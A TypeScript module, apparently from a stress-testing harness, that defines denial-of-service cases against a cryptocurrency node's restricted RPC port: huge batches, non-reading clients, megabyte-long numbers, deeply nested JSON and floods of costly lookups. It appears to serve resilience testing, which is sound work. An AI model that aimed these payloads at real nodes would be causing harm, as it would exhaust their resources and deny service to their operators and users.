import { randomBytes } from "node:crypto";
import type { Attack } from "../attack.ts";
import { callRequest, httpRequest, pathRequest } from "../hostile-caller.ts";
import type { Siege } from "../siege.ts";

const CALLERS = 16;
const json = (body: string) => httpRequest({ path: "/json_rpc", body });

/** A batch of calls with large answers, as many as fit 12 kB. */
function batch(method: string, params: unknown, count: number): Buffer {
  return json(
    JSON.stringify(Array.from({ length: count }, (_, id) => ({ jsonrpc: "2.0", id, method, params }))),
  );
}

/** Callers send these requests, one after the other and again. */
async function sendInTurn(siege: Siege, requests: readonly Buffer[]): Promise<void> {
  let turn = 0;
  await siege.floodCalls(CALLERS, (caller) => caller.exchange(requests[turn++ % requests.length]!));
}

/** Requests on the restricted port that cost more than they weigh. */
export const requestAttacks: Attack[] = [
  {
    name: "caller-batches",
    by: "caller",
    does: "100 batches of calls with large answers on the restricted port, by callers who leave or do not read",
    stands: "many calls in one request, whose answers add up before a byte is sent",
    watchSeconds: 5,
    async run(siege) {
      const [low, high] = [1, 400];
      const request = batch("get_block_headers_range", { start_height: low, end_height: high }, 100);
      const count = siege.sized(100, 30);
      const callers = await Promise.all(Array.from({ length: count }, () => siege.caller()));
      await Promise.all(
        callers.map(async (caller, i) => {
          caller?.stopReading();
          await caller?.send(request);
          if (i % 2 === 0) caller?.leave();
        }),
      );
      await siege.end();
    },
  },
  {
    name: "caller-slow-readers",
    by: "caller",
    does: "callers of the restricted port ask for the largest answers there are and read nothing",
    stands: "answers that fill a budget which the owner's port shares",
    async run(siege) {
      const request = callRequest("get_block_headers_range", { start_height: 1, end_height: 490 });
      const callers = await Promise.all(Array.from({ length: siege.sized(60, 20) }, () => siege.caller()));
      await Promise.all(
        callers.map(async (caller) => {
          caller?.stopReading();
          for (let i = 0; i < 20; i++) await Promise.race([caller?.send(request), siege.end()]);
        }),
      );
      await siege.end();
    },
  },
  {
    name: "caller-digits",
    by: "caller",
    does: "numbers of nearly a megabyte of digits, and of exponents",
    stands: "texts whose value takes longer to compute than to send",
    async run(siege) {
      const digits = "7".repeat(1_000_000);
      const requests = [
        json(
          `{"jsonrpc":"2.0","id":"0","method":"get_block_header_by_height","params":{"height":${digits}}}`,
        ),
        json(`{"jsonrpc":"2.0","id":${digits},"method":"get_info"}`),
        json(`{"jsonrpc":"2.0","id":"0","method":"get_info","params":{"x":1e${digits.slice(0, 900_000)}}}`),
      ];
      await sendInTurn(siege, requests);
    },
  },
  {
    name: "caller-deep-json",
    by: "caller",
    does: "half a million brackets, open and never closed, or closed",
    stands: "nesting that exhausts a stack, in JSON",
    async run(siege) {
      const open = "[".repeat(500_000);
      const requests = [json(open), json(open + "]".repeat(400_000)), json(`${'{"a":'.repeat(150_000)}1`)];
      await sendInTurn(siege, requests);
    },
  },
  {
    name: "caller-many-values",
    by: "caller",
    does: "a megabyte of empty objects, of different names, and of batches of nothing",
    stands: "values that cost two bytes to send and an object to keep",
    async run(siege) {
      const requests = [
        json(`[${"{},".repeat(330_000)}{}]`),
        json(`{${Array.from({ length: 90_000 }, (_, i) => `"k${i}":0`).join(",")}}`),
        json(`{"jsonrpc":"2.0","method":"get_info","params":[${"[],".repeat(330_000)}[]]}`),
      ];
      await sendInTurn(siege, requests);
    },
  },
  {
    name: "caller-distribution",
    by: "caller",
    does: "get_output_distribution of the whole chain, again and again, on 16 connections",
    stands: "calls that walk the whole chain",
    async run(siege) {
      const request = callRequest("get_output_distribution", {
        amounts: [0],
        from_height: 0,
        cumulative: true,
      });
      await siege.floodCalls(CALLERS, (caller) => caller.exchange(request));
    },
  },
  {
    name: "caller-unfold",
    by: "caller",
    does: "one transaction a hundred times in a request, decoded as JSON; one key image by the ten thousand",
    stands: "short requests that unfold: repeated ids",
    async run(siege) {
      const hash = siege.chain.poolTransactions[0]!.hash;
      const { blocks, hashes } = siege.chain;
      const many = Array.from({ length: 100 }, () => hash);
      const images = Array.from({ length: 5000 }, () => "ab".repeat(32));
      const requests = [
        pathRequest("/get_transactions", { txs_hashes: many, decode_as_json: true, prune: false }),
        pathRequest("/is_key_image_spent", { key_images: images }),
        callRequest("get_block_header_by_hash", { hashes: Array.from({ length: 900 }, () => hashes[9]) }),
        pathRequest("/get_outs", {
          outputs: Array.from({ length: 5000 }, () => ({ amount: 0, index: blocks.length - 1 })),
          get_txid: true,
        }),
      ];
      await sendInTurn(siege, requests);
    },
  },
  {
    name: "caller-mining-calls",
    by: "caller",
    does: "block templates on old blocks and on many addresses, places for 64 other chains, blocks of a megabyte",
    stands: "calls of miners and pools on the restricted port",
    async run(siege) {
      const { hashes, wallets } = siege.chain;
      const ids = Array.from({ length: 64 }, () => randomBytes(32).toString("hex"));
      const places = {
        blocktemplate_blob: "",
        aux_pow: ids.map((id) => ({ id, hash: id })),
      };
      const template = (prev_block?: string) =>
        callRequest("get_block_template", {
          wallet_address: wallets.alice.address,
          reserve_size: 255,
          prev_block,
        });
      const requests = [
        template(),
        ...hashes.slice(-40).map(template),
        callRequest("add_aux_pow", places),
        callRequest("add_aux_pow", places),
        callRequest("get_miner_data"),
        callRequest("get_txpool_backlog"),
        callRequest("submit_block", ["10".repeat(490_000)]),
        callRequest("get_fee_estimate", { grace_blocks: 1_000_000_000 }),
      ];
      await sendInTurn(siege, requests);
    },
  },
  {
    name: "caller-many-amounts",
    by: "caller",
    does: "histograms and distributions of thousands of amounts, thousands of ids, key images and heights that are not there",
    stands: "look-ups of what is nowhere, by the thousand",
    async run(siege) {
      const ids = (count: number) => Array.from({ length: count }, () => randomBytes(32).toString("hex"));
      const amounts = Array.from({ length: 5000 }, () => randomBytes(4).readUInt32LE());
      const requests = [
        callRequest("get_output_histogram", { amounts, unlocked: true, recent_cutoff: 1 }),
        callRequest("get_output_histogram", { amounts: [] }),
        callRequest("get_output_distribution", { amounts: amounts.slice(0, 100), cumulative: true }),
        callRequest("get_block_header_by_hash", { hashes: ids(900) }),
        pathRequest("/get_transactions", { txs_hashes: ids(100) }),
        pathRequest("/is_key_image_spent", { key_images: ids(5000) }),
        callRequest("get_block_headers_range", { start_height: 0, end_height: 499 }),
        pathRequest("/get_transaction_pool_stats"),
        pathRequest("/get_public_nodes", { gray: true, white: true }),
      ];
      await sendInTurn(siege, requests);
    },
  },
];
